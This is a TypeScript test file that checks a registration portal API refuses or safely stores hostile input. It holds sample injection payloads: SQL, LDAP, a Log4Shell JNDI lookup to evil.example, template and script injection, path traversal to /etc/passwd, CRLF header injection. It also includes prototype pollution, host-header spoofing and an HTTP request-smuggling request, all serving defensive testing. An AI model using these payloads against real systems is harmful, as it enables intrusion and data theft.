import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { connect } from 'node:net';
import { text } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { MockActivityEnvironment } from '@temporalio/testing';
import fc from 'fast-check';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { noticeActivities } from '../activities/notice.activities.js';
import { AuditEntry, CardReading, Consent, Notice, Registration } from '../database/entities/index.js';
import { type RefusalCode, refusals } from '../domain/refusals.js';
import { openMailer } from '../platform/mailer.js';
import { createMailCatcher } from '../simulator/mail-catcher.js';
import { createRegister, type InsuredRegister } from '../simulator/register.js';
import { personByKey, samplePassword } from '../simulator/world/people.js';
import document from './openapi.json' with { type: 'json' };
import { httpStatus } from './refusal.filter.js';
import {
  type Answer,
  type CuttableLink,
  heldClock,
  openLink,
  openTestApi,
  openTestDatabase,
  type Sent,
  type TestApi,
  type TestDatabase,
  noCertificates,
  noCarrierGateway,
} from './support/test-api.js';

const clock = heldClock();
const mei = personByKey('lin-mei');
const hao = personByKey('chen-hao');
let link: CuttableLink;
let database: TestDatabase;
let register: InsuredRegister;
let api: TestApi;

beforeAll(async () => {
  const throughLink = async (url: string) => (link = await openLink(url)).url;
  [database, register] = await Promise.all([
    openTestDatabase(process.env.TEST_DATABASE_URL!, throughLink),
    createRegister({ now: () => clock.now(), host: '127.0.0.1', port: 0 }),
  ]);
  api = await openTestApi({ database, clock, registerUrl: register.url });
});
afterAll(async () => {
  await api.close();
  await register.stop();
  await database.close();
  await link.close();
});
beforeEach(async () => {
  await database.clear();
  api.log.length = 0;
});

const page2 = (draftId: string) => ({
  draftId,
  password: samplePassword,
  passwordConfirmation: samplePassword,
  mobile: mei.mobile,
  email: mei.email,
});
const terms = () => ({ termsVersion: api.parts.terms.version, accepted: true });
const post = (path: string, sent: Sent) => api.send('POST', path, sent);

const problemKeys = ['code', 'deadlineAt', 'detail', 'fields', 'nextStep', 'retryAt', 'status', 'title', 'type'];

/** A problem document of this code, in the language, with nothing in it that the program or a person would not want to show. */
function expectProblem(answer: Answer, code: RefusalCode, language: 'zh' | 'en' = 'zh') {
  expect({ status: answer.status, code: answer.json?.code }).toEqual({ status: httpStatus[code], code });
  expectSomeProblem(answer);
  const { title, nextStep } = refusals[code];
  expect(answer.json).toMatchObject({ title: title[language], detail: title[language], nextStep: nextStep[language] });
}

function expectSomeProblem({ status, headers, json, text: answer }: Answer) {
  expect(headers['content-type']).toBe('application/problem+json; charset=utf-8');
  expect(json.status).toBe(status);
  expect(Object.keys(refusals)).toContain(json.code);
  expect(problemKeys).toEqual(expect.arrayContaining(Object.keys(json)));
  expect(answer).not.toMatch(/\.[jt]s:\d|node_modules|\n\s+at |SyntaxError|Exception/);
}

const rowCounts = () =>
  Promise.all(
    [Consent, CardReading, Registration, Notice, AuditEntry].map((table) => database.orm.em.fork().count(table as typeof Consent)),
  );

/** What is wrong with a request is said before anything of it is done. */
describe('a request', () => {
  it('N-18 with a key that nobody knows is refused whole, refusal:request-invalid', async () => {
    const before = await rowCounts();
    const answer = await post('/v1/registration-drafts', { body: { ...terms(), confirmed: true } });
    expectProblem(answer, 'request-invalid');
    expect(answer.json.fields).toEqual(['(unknown key)']);
    expect(await rowCounts()).toEqual(before);
  });

  it('N-19 with a key twice: the last value counts, for what is judged, stored and hashed', async () => {
    const draftId = await api.given.checkedDraft(mei);
    const fields = JSON.stringify(page2(draftId)).slice(1, -1);
    const raw = `{"email":"first@example.com","password":"123456","passwordConfirmation":"123456",${fields}}`;
    expect((await post('/v1/registrations', { raw })).status).toBe(201);
    const { email, passwordHash } = await database.orm.em.fork().findOneOrFail(Registration, { idNumber: mei.idNumber });
    expect(email).toBe(mei.email);
    expect(await api.parts.passwords.verify(samplePassword, passwordHash!)).toBe(true);
  });

  it.each(['{"__proto__":{"accepted":true}}', '{"constructor":{"prototype":{"accepted":true}}}', '{"a":{"__proto__":{"polluted":1}}}'])(
    'N-20 that reaches for a prototype is refused: %s',
    async (raw) => {
      expectProblem(await post('/v1/registration-drafts', { raw }), 'request-invalid');
      expect(Object.keys(Object.prototype)).toEqual([]);
      expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    },
  );

  it('N-21 with JSON 10,000 deep is refused', async () => {
    const deep = '['.repeat(10_000) + ']'.repeat(10_000);
    expectProblem(await post('/v1/registration-drafts', { raw: deep }), 'request-malformed');
    expectProblem(await post('/v1/registration-drafts', { raw: `{"accepted":${deep}}` }), 'request-malformed');
    // Brackets inside a text nest nothing.
    expectProblem(await post('/v1/registration-drafts', { body: { ...terms(), termsVersion: '['.repeat(40) } }), 'terms-outdated');
    expectProblem(await post('/v1/registration-drafts', { raw: '['.repeat(10_000) }), 'request-malformed');
  });

  it('N-22 of 2 MB is refused, refusal:body-too-large', async () => {
    expectProblem(
      await post('/v1/registration-drafts', { raw: JSON.stringify({ termsVersion: 'x'.repeat(2_000_000) }) }),
      'body-too-large',
    );
  });

  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml'])(
    'N-23 with JSON sent as %s is refused, refusal:media-type-unsupported',
    async (contentType) => {
      const sent = { body: terms(), headers: { 'content-type': contentType } };
      expectProblem(await post('/v1/registration-drafts', sent), 'media-type-unsupported');
    },
  );

  it('N-24 with a compressed body is refused and never inflated, refusal:media-type-unsupported', async () => {
    const raw = gzipSync(JSON.stringify({ ...terms(), padding: 'x'.repeat(10_000_000) }));
    const answer = await post('/v1/registration-drafts', { raw, headers: { 'content-encoding': 'gzip' } });
    expectProblem(answer, 'media-type-unsupported');
  });

  it('N-33 with a password of 1 MB, or of 201 characters, is refused before anything is hashed', async () => {
    const draftId = await api.given.checkedDraft(mei);
    const cardReadingId = await api.given.cardReading(mei);
    const before = api.hashes();
    for (const [length, code] of [
      [1_000_000, 'body-too-large'],
      [201, 'request-invalid'],
    ] as const) {
      const password = 'Aa1#'.repeat(length).slice(0, length);
      expectProblem(await post('/v1/registrations', { body: { ...page2(draftId), password, passwordConfirmation: password } }), code);
      expectProblem(await post('/v1/portal-sessions', { body: { cardReadingId, password } }), code);
    }
    expect(api.hashes()).toBe(before);
  });

  it.each(['', '{', '{"accepted":true', "{'accepted':true}", '\u0000', 'nonsense'])(
    'that is no JSON is refused, refusal:request-malformed: %j',
    async (raw) => expectProblem(await post('/v1/registration-drafts', { raw }), 'request-malformed'),
  );

  it('without a body is refused', async () => {
    expectProblem(await post('/v1/registration-drafts', {}), 'request-invalid');
  });

  it.each(['/', '/v1', '/v2/registrations', '/v1/registrations/', '/V1/registrations', '/v1/terms/../../etc/passwd', '/v1//terms'])(
    'to an address that is not there is refused, refusal:not-found: %s',
    async (path) => expectProblem(await post(path, { body: {} }), 'not-found'),
  );

  it('to an address that cannot be decoded is refused', async () => {
    const answer = await api.send('GET', `/v1/card-readings/${mei.idNumber}%zz`);
    expectProblem(answer, 'request-malformed');
    expect(answer.text).not.toContain(mei.idNumber);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
  });

  it('for the id of nothing is refused', async () => {
    expectProblem(await api.send('GET', '/v1/card-readings/1%20or%201=1'), 'card-reading-not-found');
    expectProblem(await api.send('GET', `/v1/card-readings/${'a'.repeat(1000)}`), 'not-found');
    for (const path of ['__proto__', '%00', 'help-desk/versions/%00', `help-desk/versions/'--`])
      expectProblem(await api.send('GET', `/v1/contents/${path}`), 'content-not-found');
    const body = { cardReadingId: randomUUID() };
    expectProblem(await post(`/v1/registration-drafts/${'a'.repeat(36)}/read-card`, { body }), 'draft-not-found');
  });

  it('N-75 with a foreign host does not bend the mailed link', async () => {
    const mails = await createMailCatcher({ now: () => clock.now(), host: '127.0.0.1', ports: { smtp: 0, http: 0 } });
    const mailer = openMailer({ smtpUrl: mails.smtpUrl, from: 'no-reply@portal.example', timeoutSeconds: 5 });
    const headers = {
      host: 'evil.example',
      'x-forwarded-host': 'evil.example',
      forwarded: 'host=evil.example',
      origin: 'https://evil.example',
    };
    const body = page2(await api.given.checkedDraft(mei));
    expect((await post('/v1/registrations', { body, headers })).status).toBe(201);

    const { id } = await database.orm.em.fork().findOneOrFail(Notice, { toAddress: mei.email });
    const { deliverNotice } = noticeActivities({
      ...api.parts,
      certificates: noCertificates,
      carrierGateway: noCarrierGateway,
      mailer,
      portalUrl: 'https://portal.example',
      deliver: async () => true,
    });
    const work = { noticeId: id, round: 1, policy: api.parts.policy };
    expect(await new MockActivityEnvironment().run(deliverNotice, work)).toEqual({ ending: 'delivered' });
    const mail = await simpleParser(mails.mails()[0]!.Raw.Data);
    await mails.stop();
    expect(mail.text).toContain('https://portal.example/confirm#');
    expect(JSON.stringify([...mail.headers, mail.text, mail.html])).not.toContain('evil');
  });

  it.each(['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND', 'QUERY', 'MKCOL'])(
    'N-76 with an odd method is refused, refusal:method-not-allowed: %s',
    async (method) => {
      const answer = await api.send(method, '/v1/registrations', { headers: { cookie: 'secret=1' } });
      expect([answer.status, answer.headers.allow]).toEqual([405, 'POST']);
      expect(answer.text).not.toContain('secret');
      if (method !== 'HEAD') expectProblem(answer, 'method-not-allowed');
    },
  );

  it('N-76 that wants another method than it has does not get it', async () => {
    const headers = { 'x-http-method-override': 'DELETE', 'x-http-method': 'DELETE', 'x-method-override': 'DELETE' };
    const answer = await post('/v1/portal-sessions/current?_method=DELETE', { body: { _method: 'DELETE' }, headers });
    expectProblem(answer, 'method-not-allowed');
    expect(answer.headers.allow).toBe('GET, HEAD, DELETE');
  });

  it('N-76 with both a length and chunks is refused, and the connection ends', async () => {
    const { hostname, port } = new URL(api.url);
    const socket = connect(Number(port), hostname);
    await once(socket, 'connect');
    socket.write(
      `POST /v1/registrations HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/terms HTTP/1.1\r\nHost: x\r\n\r\n`,
    );
    const answer = await text(socket);
    expect(answer).toMatch(/^HTTP\/1\.1 400 /);
    expect(answer.match(/HTTP\/1\.1/g)).toHaveLength(1);
  });

  it.each<[string | undefined, 'zh' | 'en']>([
    [undefined, 'zh'],
    ['en', 'en'],
    ['en-GB,en;q=0.9', 'en'],
    ['zh-TW,en;q=0.5', 'zh'],
    ['fr', 'zh'],
    ['*', 'zh'],
    ['\u00ff;;q=x', 'zh'],
  ])('is refused in the language it asks for: %s is %s', async (accepted, language) => {
    const headers = accepted === undefined ? undefined : { 'accept-language': accepted };
    expectProblem(await post('/v1/nowhere', { headers }), 'not-found', language);
    expectProblem(await post('/v1/registration-drafts', { raw: '{', headers }), 'request-malformed', language);
    expectProblem(await post('/v1/registration-drafts', { body: [], headers }), 'request-invalid', language);
    expectProblem(await api.send('PUT', '/v1/registrations', { headers }), 'method-not-allowed', language);
  });
});

const dangerous = [
  `'; drop table registrations; --`,
  `" or "1"="1`,
  `*)(uid=*))(|(uid=*`,
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '<script>x</script>',
  '../../x\\',
  '%00%0a',
  '\u0000',
  '\ud800',
  'a\r\nBcc: x@y.example',
  '\u202e',
];

/** Signs that mean something to some interpreter mean nothing here. */
describe('metacharacters', () => {
  it('N-74 in any text of any request are taken literally or refused', async () => {
    const tables = () => database.orm.em.execute<{ count: string }[]>(`select count(*) from pg_tables where schemaname = 'public'`);
    const before = await tables();
    for (const { path, schema } of await routes()) {
      const whole = fc.sample(valid(schema, { whole: true }), { numRuns: 1, seed: 1 })[0];
      const all = dangerous.flatMap((sign) => withEachText(whole, sign));
      const answers = await Promise.all(all.map((body) => post(path, { body, headers: staffOf(path) })));
      for (const [n, answer] of answers.entries()) {
        expect(answer.status, JSON.stringify([path, all[n]])).toBeLessThan(500);
        if (answer.status >= 400) expectSomeProblem(answer);
      }
    }
    expect(await tables()).toEqual(before);
    // Every text of every operation: on cores that are shared it takes its time.
  }, 120_000);

  it('N-74 are kept as they were typed', async () => {
    const [reader, email] = [`Reader'); drop table card_readings; --`, `o'b*r%ien@example.com`];
    const asked = await post('/v1/card-readings', { body: { host: 'desk-1', reader, check: 'read' } });
    expect(await database.orm.em.fork().findOneOrFail(CardReading, { id: asked.json.cardReadingId })).toMatchObject({ reader });
    const answer = await post('/v1/registrations', { body: { ...page2(await api.given.checkedDraft(mei)), email } });
    expect(answer.status).toBe(201);
    expect(await database.orm.em.fork().findOneOrFail(Registration, { idNumber: mei.idNumber })).toMatchObject({ email });
  });

  it('N-74 in a key or an address are no danger', async () => {
    const key = `' or 1=1; --`;
    expect((await post('/v1/registration-drafts', { body: terms(), key })).status).toBe(201);
    expect((await post('/v1/registration-drafts', { body: terms(), key })).headers['idempotent-replayed']).toBe('true');
    expect((await api.send('GET', `/v1/card-readings/${encodeURIComponent(key)}`)).status).toBe(404);
  });
});

type Schema = {
  $ref?: string;
  type?: string;
  format?: string;
  pattern?: string;
  const?: unknown;
  enum?: unknown[];
  anyOf?: Schema[];
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  minItems?: number;
};
type Documented = { post?: { requestBody?: { content: { 'application/json'?: { schema: Schema } } } } };
/** Operators only where they change nothing that stops the others. */
const staffOf = (path: string) => ({ authorization: path.startsWith('/v1/staff/contents/') ? 'Bearer operator' : 'Bearer counter' });

/** Every address that takes a POST with a body, with forms and readings in it that exist. */
async function routes(): Promise<{ path: string; schema: Schema }[]> {
  const [draftId, ...readings] = await Promise.all([api.given.checkedDraft(mei), api.given.cardReading(mei), api.given.cardReading(hao)]);
  const ids = Object.fromEntries([
    ['draftId', draftId],
    ...['cardReadingId', 'readCardReadingId', 'verifyCardReadingId'].map((name) => [name, readings[0]]),
  ]);
  return Object.entries(document.paths as unknown as Record<string, Documented>).flatMap(([path, { post: operation }]) => {
    const schema = operation?.requestBody?.content['application/json']?.schema;
    return schema
      ? [{ path: path.replace('{draftId}', draftId).replace('{key}', 'photo-checklist'), schema: withKnownIds(resolved(schema), ids) }]
      : [];
  });
}

const resolved = (schema: Schema): Schema =>
  schema.$ref ? (document.components.schemas as unknown as Record<string, Schema>)[schema.$ref.split('/').at(-1)!]! : schema;

const withKnownIds = (schema: Schema, ids: Record<string, string>): Schema => ({
  ...schema,
  properties: Object.fromEntries(
    Object.entries(schema.properties ?? {}).map(([name, of]) => [name, ids[name] ? { enum: [ids[name], randomUUID()] } : of]),
  ),
});

/** What a schema allows; `whole` with all that may be left out. */
function valid(unresolved: Schema, { whole = false } = {}): fc.Arbitrary<unknown> {
  const schema = resolved(unresolved);
  const { type, format, pattern, minLength = 0, maxLength = 60, minimum, maximum, properties = {}, required = [] } = schema;
  if ('const' in schema) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((of) => valid(of, { whole })));
  if (format === 'uuid') return fc.uuid();
  if (format?.startsWith('date')) {
    const instants = fc.date({ min: new Date('1900-01-01'), max: new Date('2100-01-01'), noInvalidDate: true });
    return instants.map((instant) => instant.toISOString().slice(0, format === 'date' ? 10 : undefined));
  }
  // Classes of characters cannot be made up, but found.
  if (pattern?.includes('\\p'))
    return fc
      .string({ unit: 'grapheme', minLength, maxLength: Math.min(maxLength, 60) })
      .filter((text) => new RegExp(pattern, 'u').test(text));
  if (pattern) return fc.stringMatching(new RegExp(pattern));
  switch (type) {
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({ min: minimum, max: maximum });
    case 'string':
      return fc.oneof(
        fc.string({ unit: 'binary', minLength, maxLength }),
        fc.constantFrom('0912345678', 'a@example.com', 'Peach#2071', 'A123456789'),
      );
    case 'array':
      return fc.array(valid(schema.items!, { whole }), { minLength: whole ? 1 : (schema.minItems ?? 0), maxLength: 2 });
    case 'object':
      return fc.record(Object.fromEntries(Object.entries(properties).map(([name, of]) => [name, valid(of, { whole })])), {
        requiredKeys: whole ? Object.keys(properties) : required,
      });
    default:
      throw new Error(`no way to make up ${JSON.stringify(schema)}`);
  }
}

/** The value once for every text in it, with that text replaced. */
function withEachText(value: unknown, sign: string): unknown[] {
  if (typeof value === 'string') return [sign];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, part]) =>
    withEachText(part, sign).map((spoiled) => (Array.isArray(value) ? value.with(Number(name), spoiled) : { ...value, [name]: spoiled })),
  );
}

/** One part of the value replaced by anything at all. */
const spoiled = (value: unknown): fc.Arbitrary<unknown> =>
  typeof value === 'object' && value !== null && Object.keys(value).length > 0
    ? fc
        .tuple(fc.constantFrom(...Object.keys(value), 'unknown'), fc.jsonValue({ maxDepth: 3 }))
        .map(([name, anything]) => ({ ...value, [name]: anything }))
    : fc.jsonValue();

describe('whatever JSON is sent', () => {
  it('N-18 N-74 no address fails of it, and what is refused is a problem document', async () => {
    const all = await routes();
    expect(all.length).toBeGreaterThanOrEqual(10);
    const sent = fc.constantFrom(...all).chain(({ path, schema }) =>
      fc.record({
        path: fc.constant(path),
        body: fc.oneof(valid(schema), valid(schema).chain(spoiled), fc.jsonValue()),
      }),
    );
    const noFailure = fc.asyncProperty(sent, async ({ path, body }) => {
      const answer = await post(path, { body, headers: staffOf(path) });
      expect(answer.status).toBeLessThan(500);
      if (answer.status >= 400) expectSomeProblem(answer);
    });
    // What a failure prints begins with the seed: `{ seed, path }` given here repeats it.
    await fc.assert(noFailure, { numRuns: 400 });
    expect(api.log.join('')).not.toContain('request-failed');
  });
});

describe('whatever stands in an address for an id or a name', () => {
  it('N-18 N-74 no address fails of it', async () => {
    const { paths } = (await api.send('GET', '/openapi.json')).json as { paths: Record<string, Record<string, unknown>> };
    const named = Object.entries(paths).filter(([path]) => path.includes('{'));
    expect(named.length).toBeGreaterThanOrEqual(40);
    for (const [path, methods] of named)
      for (const method of Object.keys(methods))
        for (const sign of ['%00', 'a%00', '%0a', '%EF%BF%BF', '..%2f..', '%F0%9F%92%A9'])
          for (const headers of [staffOf(path), { authorization: 'Bearer operator' }]) {
            const body = method === 'get' || method === 'delete' ? {} : { body: {} };
            const answer = await api.send(method.toUpperCase(), path.replace(/\{\w+\}/g, sign), { ...body, headers });
            expect([path, method, sign, answer.status]).toEqual([path, method, sign, expect.toSatisfy((status: number) => status < 500)]);
          }
    expect(api.log.join('')).not.toContain('request-failed');
  });
});

describe('D-04 without a year of the office calendar', () => {
  it.each([
    ['2027-11-30T15:59:59.999Z', []],
    ['2027-11-30T16:00:00.000Z', ['office-calendar']],
  ])('the API at %s is ready, and says whether it lacks one', async (now, degraded) => {
    const before = clock.now();
    clock.set(now);
    const answer = await api.send('GET', '/health/ready');
    clock.set(before);
    expect(answer.json).toEqual({ ready: true, degraded });
  });
});

describe('without its database', () => {
  it('F-24 the API says so, refusal:service-unavailable, and goes on when the database is back', async () => {
    const body = terms();
    const key = randomUUID();
    const cardReadingId = await api.given.cardReading(mei);
    link.cut();
    for (const answer of await Promise.all([
      post('/v1/registration-drafts', { body, key }),
      post('/v1/portal-sessions', { body: { cardReadingId, password: samplePassword } }),
      api.send('GET', `/v1/card-readings/${cardReadingId}`),
    ])) {
      expectProblem(answer, 'service-unavailable');
      expect(answer.headers['retry-after']).toBe('10');
    }
    expect((await api.send('GET', '/health/live')).status).toBe(200);
    expect((await api.send('GET', '/health/ready')).status).toBe(503);
    expect((await api.send('GET', '/v1/terms')).status).toBe(200);
    expect(api.log.join('')).not.toContain(mei.idNumber);

    link.mend();
    await vi.waitFor(async () => expect((await api.send('GET', '/health/ready')).status).toBe(200), { timeout: 5000 });
    const answer = await post('/v1/registration-drafts', { body, key });
    expect([answer.status, answer.headers['idempotent-replayed']]).toEqual([201, undefined]);
  });
});
